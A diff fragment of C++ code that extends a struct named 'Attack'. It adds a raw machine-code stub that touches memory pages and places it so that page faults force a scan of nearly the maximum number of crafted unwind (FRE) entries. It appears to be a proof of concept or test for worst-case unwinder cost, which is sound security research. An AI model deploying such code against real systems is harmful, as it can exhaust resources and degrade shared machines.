@@ -103,9 +103,19 @@ constexpr uint8_t kSyscallStub[] = {0x55, 0x48, 0x89, 0xcd, 0xb8, 0x10, 0x00,
 constexpr uint8_t kSpinStub[] = {0x55, 0x48, 0x89, 0xfd, 0x48, 0xff,
                                  0xce, 0x75, 0xfb, 0x5d, 0xc3};
 constexpr uint32_t kSpinStubOffset = 64;
+// touch stub (rdi rbp, rsi addr, rdx n): push %rbp; mov %rdi,%rbp;
+//   1: movb $1,(%rsi); add $4096,%rsi; dec %rdx; jnz 1b; pop %rbp; ret
+// Placed near the end of function 0, so that the row of its store (a page
+// fault's PC) is found only after a scan of nearly kCap FREs.
+constexpr uint8_t kTouchStub[] = {0x55, 0x48, 0x89, 0xfd, 0xc6, 0x06, 0x01, 0x48, 0x81,
+                                  0xc6, 0x00, 0x10, 0x00, 0x00, 0x48, 0xff, 0xca, 0x75,
+                                  0xf1, 0x5d, 0xc3};
+constexpr uint32_t kTouchStubOffset = kCap - 64;
+constexpr uint32_t kTouchStoreOffset = kTouchStubOffset + 4;  // the movb
 
 using SyscallFn = long (*)(long fd, unsigned long cmd, void* arg, void* rbp);
 using SpinFn = void (*)(void* rbp, unsigned long n);
+using TouchFn = void (*)(void* rbp, void* addr, unsigned long pages);
 
 struct Attack {
   uint8_t* map = nullptr;
@@ -114,6 +124,7 @@ struct Attack {
   uint64_t sec = 0, sec_len = 0;
   SyscallFn syscall_stub = nullptr;
   SpinFn spin_stub = nullptr;
+  TouchFn touch_stub = nullptr;
 
   Attack() = default;
   Attack(const Attack&) = delete;
@@ -137,12 +148,14 @@ struct Attack {
     std::memset(map, 0xcc, text_len);  // int3 wherever no stub is
     std::memcpy(map, kSyscallStub, sizeof(kSyscallStub));
     std::memcpy(map + kSpinStubOffset, kSpinStub, sizeof(kSpinStub));
+    std::memcpy(map + kTouchStubOffset, kTouchStub, sizeof(kTouchStub));
     std::vector<uint8_t> s = BuildSection(sec, text, kFdes, kFuncSize, nfres);
     std::memcpy(map + text_len, s.data(), s.size());
     if (mprotect(map, text_len, PROT_READ | PROT_EXEC) != 0) return false;
     if (mprotect(map + text_len, RoundUp(sec_len), PROT_READ) != 0) return false;
     syscall_stub = reinterpret_cast<SyscallFn>(map);
     spin_stub = reinterpret_cast<SpinFn>(map + kSpinStubOffset);
+    touch_stub = reinterpret_cast<TouchFn>(map + kTouchStubOffset);
     return true;
   }
 
